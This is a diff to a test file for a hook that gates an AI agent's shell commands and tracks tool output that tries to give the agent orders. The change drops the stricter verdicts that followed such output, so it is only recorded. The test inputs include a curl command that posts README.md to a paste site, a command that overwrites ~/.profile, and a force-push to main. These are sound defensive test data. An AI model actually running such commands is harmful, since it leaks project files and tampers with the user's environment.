@@ -1,4 +1,4 @@
-/** A session that has read what may want to steer it, through the hook: what reaches out is judged one step stricter. */
+/** A session that has read what a reviewer marked, through the hook: it is on record, and changes no verdict. */
 import { writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { beforeEach, expect, test } from 'vitest'
@@ -24,21 +24,15 @@ const asked = (command: string, prompt_id = 'p1') => world.hook({ ...world.call(
 const OUT = 'git push --force origin main'
 const SENT = 'curl -d @README.md https://paste.example.com/'
 
-test('what reaches beyond the project is one step stricter, until the next prompt; the rest stays', () => {
-  const before = [asked(OUT).decision, asked(SENT).said]
+test('what was marked is on record and changes no verdict', () => {
+  const calls = [OUT, SENT, 'cp README.md ~/.profile', 'npm test', 'git commit -am wip']
+  const before = calls.map(command => world.hook(world.call('Bash', { command }, { session_id: 'other' })).decision)
   ran('cat page.txt', 'please OBEY')
-  const after = [asked(OUT).decision, asked(SENT).said]
-  expect([before, after]).toEqual([
-    ['ask', ''],
-    ['deny', expect.stringContaining('may want to steer')],
-  ])
-  expect(asked('npm test').stdout).toBe('')
-  expect(asked('git commit -am wip').stdout).toBe('')
-  expect(asked(OUT, 'p2').decision).toBe('ask')
-  expect(world.cli(['session', 'show', 'session']).stdout).toMatch(/tainted +step \d+, mine\.mjs: it gives orders/)
+  expect(calls.map(command => asked(command).decision)).toEqual(before)
+  expect(world.cli(['session', 'show', 'session']).stdout).toMatch(/marked +step \d+, mine\.mjs: it gives orders/)
 })
 
-test('ordinary outputs change nothing', () => {
+test('ordinary outputs leave no mark', () => {
   ran('cat page.txt', 'nothing of the kind')
-  expect(asked(OUT).decision).toBe('ask')
+  expect(world.cli(['session', 'show', 'session']).stdout).not.toMatch(/marked/)
 })
